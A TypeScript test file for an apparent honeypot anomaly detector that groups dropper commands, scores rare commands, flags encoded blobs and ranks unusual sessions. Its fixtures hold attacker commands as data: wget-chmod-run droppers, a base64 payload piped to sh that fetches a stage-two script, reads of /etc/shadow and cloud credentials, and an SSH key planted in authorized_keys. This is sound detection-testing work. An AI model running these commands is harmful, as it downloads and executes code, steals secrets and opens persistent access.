import { describe, expect, it } from 'vitest';
import { createJsBackend } from '../../src/compute/js/js-backend.js';
import { encodedRuns, isHighEntropy, shannonEntropy } from '../../src/features/text-stats.js';
import { extractFeatures } from '../../src/features/extract-features.js';
import { FEATURE_NAMES } from '../../src/features/feature-spec.js';
import { buildCommandIndex } from '../../src/longtail/command-index.js';
import { commandForm } from '../../src/longtail/command-form.js';
import { detectLongtail } from '../../src/longtail/detect-longtail.js';
import { emergingZ, findEmerging } from '../../src/longtail/emerging.js';
import { DEFAULT_LONGTAIL_PARAMS } from '../../src/longtail/longtail-types.js';
import { findNovelSequences, shinglesOf } from '../../src/longtail/novel-sequences.js';
import { findRareCommands, rarityThreshold } from '../../src/longtail/rare-commands.js';
import { longtailFindings } from '../../src/longtail/to-findings.js';
import { cmds, record } from './support/records.js';

const P = DEFAULT_LONGTAIL_PARAMS;

describe('command forms', () => {
  it('folds the random parts real droppers change on every run, idempotently', () => {
    expect(commandForm('cat /proc/mounts; /bin/busybox TMKFV')).toBe('cat /proc/mounts; /bin/busybox [RAND]');
    expect(commandForm("echo -ne '\\x0181c46036\\x7f'")).toBe("echo -ne '\\x..[HEX]\\x..'");
    expect(commandForm("printf '\\00281c46036\\177'")).toBe("printf '\\o..[HEX]\\o..'");
    expect(commandForm('cd /tmp && chmod +x SCmx6m2L && bash -c ./SCmx6m2L')).toBe('cd /tmp && chmod +x [RAND] && bash -c ./[RAND]');
    expect(commandForm('chmod +x a21jj ./a21jj')).toBe('chmod +x [RAND] ./[RAND]');
    for (const s of ['SuSEfirewall2 stop', 'uname -a', 'cat /proc/cpuinfo | grep name', 'chmod +x x86_64']) expect(commandForm(s)).toBe(s);
    const once = commandForm("/bin/busybox ABCDE; echo -e '\\x6b\\x61' a21jj ./a21jj deadbeef01");
    expect(commandForm(once)).toBe(once);
  });
});

describe('rarity threshold', () => {
  it('keeps k at its maximum while the tail holds little of the activity', () => {
    const counts = new Map([['a', 1], ['b', 2], ['c', 3], ['d', 500]]);
    expect(rarityThreshold(counts, 3, 0.05)).toEqual({ k: 3, missingMass: 1 / 506, occurrences: 506 });
  });
  it('lowers k when the low counts are much of the activity, but never below 1', () => {
    const many = new Map<string, number>([['big', 100]]);
    for (let i = 0; i < 10; i++) many.set(`two${i}`, 2);
    expect(rarityThreshold(many, 3, 0.05).k).toBe(1); // forms seen twice hold 20/120 of occurrences
    const singletons = new Map<string, number>(Array.from({ length: 50 }, (_, i) => [`x${i}`, 1]));
    const t = rarityThreshold(singletons, 3, 0.05);
    expect(t.k).toBe(1);
    expect(t.missingMass).toBe(1);
  });
  it('counts history: a form common in the baseline is not rare in the window', () => {
    const common = Array.from({ length: 40 }, () => record({ commands: cmds('uname -a') }));
    const window = [record({ commands: cmds('uname -a', 'cat /etc/shadow') }), ...common.slice(0, 5)];
    const idx = buildCommandIndex(window, common);
    const { rare } = findRareCommands(window, idx, P);
    expect(rare.map((r) => r.command)).toEqual(['cat /etc/shadow']);
    expect(rare[0]).toMatchObject({ count: 1, sessions: 1, historySessions: 0, examples: ['cat /etc/shadow'] });
    expect(rare[0]!.score).toBeCloseTo(-Math.log2(1.5 / 47), 10); // 46 sessions with commands, seen once
  });
  it('sorts rarest first and groups droppers that differ only by URL/random names', () => {
    const window = [
      record({ commands: [{ input: 'wget http://1.2.3.4/a21jj; chmod +x a21jj; ./a21jj', normalized: 'wget [URL]; chmod +x a21jj; ./a21jj', ts: null }] }),
      record({ commands: [{ input: 'wget http://5.6.7.8/o9ys7; chmod +x o9ys7; ./o9ys7', normalized: 'wget [URL]; chmod +x o9ys7; ./o9ys7', ts: null }] }),
      record({ commands: cmds('id') }),
      ...Array.from({ length: 60 }, () => record({ commands: cmds('uname -a') })),
    ];
    const { rare } = findRareCommands(window, buildCommandIndex(window, []), P);
    expect(rare.map((r) => [r.command, r.sessions])).toEqual([['id', 1], ['wget [URL]; chmod +x [RAND]; ./[RAND]', 2]]);
    expect(rare[1]!.examples).toHaveLength(2);
  });
});

describe('entropy', () => {
  it('measures bits per character', () => {
    expect(shannonEntropy('')).toBe(0);
    expect(shannonEntropy('aaaa')).toBe(0);
    expect(shannonEntropy('abcd')).toBe(2);
  });
  it('finds encoded blobs and tells dense ones from filler; SSH keys are not payloads', () => {
    const blob = 'Y3VybCAtZnNTTCBodHRwOi8vMTk4LjUxLjEwMC43Ny9zdGFnZTIuc2ggfCBiYXNoIC1zIC0t';
    const runs = encodedRuns(`echo ${blob} | base64 -d | sh`);
    expect(runs).toHaveLength(1);
    expect(runs[0]!.encoding).toBe('base64');
    expect(isHighEntropy(runs[0]!)).toBe(true);
    const filler = encodedRuns(`echo ${'Aa0'.repeat(20)}`);
    expect(filler).toHaveLength(1);
    expect(isHighEntropy(filler[0]!)).toBe(false);
    expect(encodedRuns(`echo "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC0k1xZ9q8Yb7Lm2Rv3Tn4Wp5Qs6Ue7Vf8Xg9Yh0Zi1Aj2Bk mdrfckr" >> .ssh/authorized_keys`)).toEqual([]);
    const hex = encodedRuns(`printf ${'\\x'.concat('4f')}${'\\x1a\\x9c\\xe2\\x07\\x55\\xd3\\x6b\\x10\\xaa\\x3e\\xf1\\x82\\x29\\xc4\\x7d\\x60'}`);
    expect(hex.map((r) => r.encoding)).toEqual(['escaped']);
    expect(isHighEntropy(hex[0]!)).toBe(true);
  });
});

describe('emerging z-score', () => {
  it('is the continuity-corrected binomial z of the window share', () => {
    expect(emergingZ(30, 2, 1000, 3000)).toBeCloseTo((30 - 8 - 0.5) / Math.sqrt(32 * 0.25 * 0.75), 10);
    expect(emergingZ(5, 15, 1000, 3000)).toBe(0);
    expect(emergingZ(5, 0, 1000, 0)).toBe(0);
  });
  it('reports a credential and a command that rose against the baseline, not steady ones', () => {
    const steady = (n: number) => Array.from({ length: n }, () => record({ commands: cmds('uname -a') }));
    const history = steady(300);
    const rising = Array.from({ length: 12 }, () => record({ credentials: [{ username: 'root', password: 'Harbor#2025', success: true }], commands: cmds('cat /etc/os-release') }));
    const window = [...steady(100), ...rising];
    const out = findEmerging(window, history, buildCommandIndex(window, history), P);
    expect(out.map((e) => [e.kind, e.value])).toEqual(expect.arrayContaining([['credential', 'root:Harbor#2025'], ['command', 'cat /etc/os-release']]));
    expect(out.find((e) => e.value === 'uname -a')).toBeUndefined();
    expect(findEmerging(window, [], buildCommandIndex(window, []), P)).toEqual([]);
  });
});

describe('novel sequences', () => {
  it('shingles with repeats collapsed', () => {
    expect(shinglesOf(['a', 'a', 'b', 'c', 'd'], 3)).toEqual([['a', 'b', 'c'], ['b', 'c', 'd']]);
    expect(shinglesOf(['a', 'b'], 3)).toEqual([['a', 'b']]);
    expect(shinglesOf(['a', 'a'], 3)).toEqual([]);
  });
  it('reports runs absent from history, merged per session', () => {
    const old = cmds('uname -a', 'cat /proc/cpuinfo', 'free -m');
    const history = Array.from({ length: 5 }, () => record({ commands: old }));
    const window = [record({ commands: cmds('uname -a', 'cat /proc/cpuinfo', 'free -m', 'nproc', 'lscpu') }), record({ commands: old })];
    const idx = buildCommandIndex(window, history);
    const { sequences, novelShare } = findNovelSequences(window, idx, P);
    expect(sequences.map((s) => s.sequence)).toEqual([['cat /proc/cpuinfo', 'free -m', 'nproc', 'lscpu']]);
    expect(Array.from(novelShare)).toEqual([2 / 3, 0]);
  });
});

describe('features and the whole detector on hand-made records', () => {
  it('extracts one value per feature, in order', () => {
    const v = extractFeatures(record({ commands: cmds('uname -a', 'uname -a'), commandCount: 2, durationMs: 120_000, loginAttempts: 2, loginSuccess: 1,
      credentials: [{ username: 'root', password: 'a', success: false }, { username: 'root', password: 'b', success: true }] }));
    const f = Object.fromEntries(FEATURE_NAMES.map((n, i) => [n, v[i]]));
    expect(f).toMatchObject({ durationSeconds: 120, loginAttempts: 2, loginSuccessRatio: 0.5, distinctUsernames: 1, distinctPasswords: 2, commandCount: 2, uniqueCommands: 1, commandsPerMinute: 1, telnet: 0 });
  });

  it('ranks the one session unlike the rest first, with reasons, and gives stable finding ids', async () => {
    const backend = await createJsBackend();
    const window = Array.from({ length: 300 }, (_, i) => record({ durationMs: 5000 + (i % 7) * 1000 }));
    const odd = record({ durationMs: 600_000, loginSuccess: 1, credentials: [{ username: 'root', password: 'x', success: true }], commandCount: 3,
      commands: cmds('cat ~/.aws/credentials', 'kubectl get secrets -A', 'docker ps'), riskScore: 40 });
    window.splice(150, 0, odd);
    const r = await detectLongtail({ window, history: [], backend });
    expect(r.anomalousSessions[0]).toMatchObject({ session: odd.session });
    expect(r.anomalousSessions[0]!.reasons.length).toBeGreaterThan(1);
    expect(r.rareCommands).toHaveLength(3);
    expect(backend.runs).toBeGreaterThan(0);
    const again = await detectLongtail({ window, history: [], backend });
    expect(longtailFindings(again).map((f) => f.id)).toEqual(longtailFindings(r).map((f) => f.id));
    const kinds = new Set(longtailFindings(r).map((f) => f.kind));
    expect([...kinds].sort()).toEqual(['anomalous_session', 'novel_sequence', 'rare_command']);
  });
});
